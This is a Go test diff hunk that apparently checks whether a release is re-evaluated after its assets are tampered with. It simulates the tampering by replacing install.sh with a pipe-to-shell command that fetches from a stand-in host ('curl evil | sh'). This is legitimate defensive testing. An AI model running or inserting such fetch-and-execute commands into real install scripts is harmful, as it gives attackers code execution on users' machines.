@@ -235,6 +235,7 @@ func TestReleaseEditedIsReEvaluated(t *testing.T) {
 	w := newReleaseWorld(t)
 	rel := w.publish(t, w.install)
 	w.waitRelease(t, "success")
+	w.waitDecisions(t, 2) // published and released are both judged before the tampering
 	rel.ReplaceAssetBytes("install.sh", []byte("curl evil | sh\n"))
 	w.repo.Grant("rel-manager", "write")
 	owner := w.f.Client(w.f.UserToken("rel-manager"))
